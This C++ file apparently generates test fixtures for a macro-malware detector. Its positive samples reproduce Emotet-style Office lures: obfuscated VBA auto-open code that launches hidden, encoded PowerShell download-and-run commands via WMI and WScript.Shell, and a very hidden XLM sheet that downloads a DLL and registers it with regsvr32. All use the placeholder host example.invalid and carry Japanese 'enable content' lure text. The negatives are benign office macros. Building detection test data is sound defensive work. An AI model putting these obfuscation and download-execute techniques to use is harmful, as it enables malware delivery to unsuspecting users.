// Macro documents. The positives are built the way Emotet's 2019-2022 lures were (auto-exec,
// string obfuscation, WMI or WScript.Shell starting an encoded PowerShell command, a very hidden
// XLM sheet that downloads with URLDownloadToFileA and runs regsvr32), yet nothing can do harm:
// every URL names example.invalid, which never resolves, and the DLL path names a file that is
// never written. The negatives are macros an office really has.
#include "macro_documents.hpp"

#include <utility>

#include "writers/biff_writer.hpp"
#include "writers/ole_documents.hpp"
#include "writers/ooxml_writer.hpp"
#include "writers/vba_writer.hpp"

namespace emoguard::fixturegen {
namespace {

// VBA code as the editor keeps it: CRLF line ends. The literal starts after its first newline.
std::string vba(std::string_view text) {
  if (!text.empty() && text.front() == '\n') text.remove_prefix(1);
  std::string out;
  for (const char c : text) {
    if (c == '\n') out += '\r';
    out += c;
  }
  return out;
}

// PowerShell's -EncodedCommand form: Base64 of the UTF-16LE command text.
std::string encoded_command(std::string_view command) {
  return base64(utf16le(command));
}

VbaModule module(std::string name, VbaModule::Kind kind, std::string code) {
  return VbaModule{std::move(name), kind, std::move(code)};
}

// Positive: a Word 97 invoice whose Document_Open builds the WMI moniker and the PowerShell
// command with Chr/StrReverse/Replace, then starts it through Win32_Process.Create. Neither
// "powershell", "winmgmts" nor the URL is in the source as plain text: only decoding finds them.
VbaProject invoice_doc_project() {
  const std::string b64 = encoded_command("IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')");
  const std::size_t third = b64.size() / 3;
  VbaProject p;
  p.codepage = 932;
  p.modules.push_back(module("ThisDocument", VbaModule::Kind::document, vba(R"(
' 請求書を表示するには「コンテンツの有効化」をクリックしてください
Private Sub Document_Open()
    Dim w As String, c As String, pid As Long
    Dim o As Object
    w = Replace("wi%nmg%mts:", "%", "") & Chr(92) & Chr(92) & Chr(46) & Chr(92) _
        & StrReverse("2vmic\toor") & Chr(58) & StrReverse("ssecorP_23niW")
    c = StrReverse("llehsrewop") & " -w hidden -enc " & _
        ")" + b64.substr(0, third) + R"(" & _
        ")" + b64.substr(third, third) + R"(" & _
        ")" + b64.substr(2 * third) + R"("
    Set o = GetObject(w)
    o.Create c, Null, Null, pid
    ShowNotice
End Sub
)")));
  p.modules.push_back(module("Module1", VbaModule::Kind::standard, vba(R"(
Public Sub ShowNotice()
    MsgBox "この文書は保護されています。内容を表示するには「編集を有効にする」をクリックしてください。", vbInformation, "請求書"
End Sub
)")));
  return p;
}

// Positive: a .docm whose AutoOpen runs "cmd /c powershell -enc ..." through WScript.Shell.
VbaProject invoice_docm_project() {
  const std::string command = "cmd /c powershell -enc " +
                              encoded_command("IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/b.ps1')");
  VbaProject p;
  p.modules.push_back(module("ThisDocument", VbaModule::Kind::document, ""));
  p.modules.push_back(module("Module1", VbaModule::Kind::standard, vba(R"(
Sub AutoOpen()
    Dim cmd As String
    cmd = ")" + command + R"("
    CreateObject("WScript.Shell").Run cmd, 0, False
End Sub
)")));
  return p;
}

// Negative: a monthly report that formats its header row on open and checks that its output
// folder exists (Scripting.FileSystemObject, nothing created, deleted or run). Shift_JIS source
// with "表" (0x95 0x5C), whose trail byte is a backslash when misread as ASCII.
VbaProject monthly_xlsm_project() {
  VbaProject p;
  p.name = "VBAProject";
  p.host = VbaProject::Host::excel;
  p.codepage = 932;
  p.modules.push_back(module("ThisWorkbook", VbaModule::Kind::document, vba(R"(
' 月次集計表を開いたときに見出しの書式を整え、保存先フォルダがあるか確認する
Private Sub Workbook_Open()
    Dim ws As Worksheet
    Set ws = ThisWorkbook.Worksheets(1)
    With ws.Range("A1:F1")
        .Interior.Color = RGB(221, 235, 247)
        .HorizontalAlignment = xlCenter
    End With
    ws.Range("B2:F40").NumberFormat = "#,##0"
    ws.Columns("A:F").AutoFit
    BoldHeader ws
    Dim fso As Object
    Set fso = CreateObject("Scripting.FileSystemObject")
    If fso.FolderExists(ThisWorkbook.Path & "\月次") Then
        ws.Range("H1").Value = "保存先: 月次フォルダ"
    Else
        ws.Range("H1").Value = "保存先フォルダ (月次) がありません"
    End If
End Sub
)")));
  p.modules.push_back(module("Sheet1", VbaModule::Kind::document, ""));
  p.modules.push_back(module("Module1", VbaModule::Kind::standard, vba(R"(
' 集計表の見出し行を太字にする
Public Sub BoldHeader(ByVal ws As Worksheet)
    ws.Rows(1).Font.Bold = True
    ws.Range("A1").Value = "月次集計表"
End Sub
)")));
  return p;
}

// Negative: a template's recorded macro, run by hand only (no auto-exec).
VbaProject template_doc_project() {
  VbaProject p;
  p.modules.push_back(module("ThisDocument", VbaModule::Kind::document, ""));
  p.modules.push_back(module("NewMacros", VbaModule::Kind::standard, vba(R"(
Sub FormatHeading()
'
' FormatHeading Macro
' Applies Heading 1 to the selected paragraph and centres it.
'
    Selection.Style = ActiveDocument.Styles("Heading 1")
    Selection.ParagraphFormat.Alignment = wdAlignParagraphCenter
    With Selection.Font
        .Name = "Meiryo UI"
        .Size = 14
        .Bold = True
    End With
End Sub
)")));
  return p;
}

// Negative: an .xls with its VBA project in _VBA_PROJECT_CUR, a sort macro run by hand.
VbaProject stock_xls_project() {
  VbaProject p;
  p.name = "VBAProject";
  p.host = VbaProject::Host::excel;
  p.codepage = 932;
  p.modules.push_back(module("ThisWorkbook", VbaModule::Kind::document, ""));
  p.modules.push_back(module("Sheet1", VbaModule::Kind::document, ""));
  p.modules.push_back(module("Module1", VbaModule::Kind::standard, vba(R"(
' 在庫一覧を品番順に並べ替える (ボタンから手動で実行)
Public Sub SortStock()
    Dim ws As Worksheet
    Set ws = ThisWorkbook.Worksheets("在庫")
    ws.Range("A1").CurrentRegion.Sort Key1:=ws.Range("A2"), Order1:=xlAscending, Header:=xlYes
    MsgBox "並べ替えが終わりました。", vbInformation, "在庫一覧"
End Sub
)")));
  return p;
}

// Positive: the 2022 Emotet .xls: a very hidden macro sheet run by Auto_Open that downloads a
// DLL with urlmon's URLDownloadToFileA through CALL and registers it with regsvr32.
BiffWorkbook quote_xls_workbook() {
  using F = XlmFormula;
  BiffSheet lure;
  lure.name = "見積書";
  lure.labels = {"このドキュメントは保護されています。",
                 "内容を表示するには「編集を有効にする」と「コンテンツの有効化」をクリックしてください。"};
  BiffSheet macro;
  macro.name = "Macro1";
  macro.kind = BiffSheet::Kind::macro_sheet;
  macro.visibility = BiffSheet::Visibility::very_hidden;
  macro.formulas = {
      F::function(
          F::kCall, "CALL",
          {F::string("urlmon"), F::string("URLDownloadToFileA"), F::string("JJCCJJ"), F::integer(0),
           F::string("http://example.invalid/x.ocx"), F::string("C:\\Users\\Public\\x.ocx"), F::integer(0), F::integer(0)}),
      F::function(F::kExec, "EXEC", {F::string("regsvr32 -s C:\\Users\\Public\\x.ocx")}),
      F::function(F::kHalt, "HALT", {}),
  };
  BiffWorkbook wb;
  wb.sheets = {lure, macro};
  wb.auto_open_sheet = 1;
  return wb;
}

}  // namespace

void add_macro_documents(std::vector<FixtureFile>& files, std::vector<MacroSource>* sources) {
  auto add = [&](std::string path, std::string label, Bytes bytes) {
    files.push_back({std::move(path), std::move(label), std::move(bytes)});
  };
  auto note_vba = [&](const std::string& path, const VbaProject& p) {
    if (sources == nullptr) return;
    for (const auto& m : p.modules) sources->push_back({path, vba_export_name(m), vba_stored_source(p, m)});
  };

  const DocText invoice{"請求書", "経理部",
                        "請求書をご確認ください。内容を表示するには「コンテンツの有効化」をクリックしてください。"};
  {
    const std::string path = "mail/attachments/請求書_2022.doc";
    const VbaProject p = invoice_doc_project();
    add(path, "ole2/doc", word97_macro_document(invoice, p));
    note_vba(path, p);
  }
  {
    const std::string path = "documents/Invoice_0192.docm";
    const VbaProject p = invoice_docm_project();
    OoxmlOptions o;
    o.vba_project = vba_project_part(p);
    add(path, "ooxml/docm",
        ooxml_package(OoxmlKind::docm, {"Invoice 0192", "Accounting", "Invoice 0192: enable content to view."}, o));
    note_vba(path, p);
  }
  {
    const std::string path = "documents/見積書.xls";
    const BiffWorkbook wb = quote_xls_workbook();
    add(path, "ole2/xls", excel97_macro_workbook({"見積書", "営業部", "見積書"}, wb));
    if (sources != nullptr) {
      for (const auto& s : wb.sheets) {
        if (s.kind == BiffSheet::Kind::macro_sheet) sources->push_back({path, s.name + ".xlm", xlm_sheet_listing(s)});
      }
    }
  }
  {
    const std::string path = "documents/月次集計.xlsm";
    const VbaProject p = monthly_xlsm_project();
    OoxmlOptions o;
    o.vba_project = vba_project_part(p);
    add(path, "ooxml/xlsm", ooxml_package(OoxmlKind::xlsm, {"月次集計", "経理部", "月次集計表"}, o));
    note_vba(path, p);
  }
  {
    const std::string path = "documents/template_macro.doc";
    const VbaProject p = template_doc_project();
    add(path, "ole2/doc", word97_macro_document({"Template", "General Affairs", "Heading template"}, p));
    note_vba(path, p);
  }
  {
    const std::string path = "documents/在庫一覧.xls";
    const VbaProject p = stock_xls_project();
    BiffWorkbook wb;
    BiffSheet stock;
    stock.name = "在庫";
    stock.labels = {"品番", "A-1001", "A-1002", "B-2001"};
    stock.code_name = "Sheet1";
    wb.sheets = {stock};
    wb.code_name = "ThisWorkbook";
    add(path, "ole2/xls", excel97_macro_workbook({"在庫一覧", "総務部", "在庫一覧"}, wb, &p));
    note_vba(path, p);
  }
}

}  // namespace emoguard::fixturegen
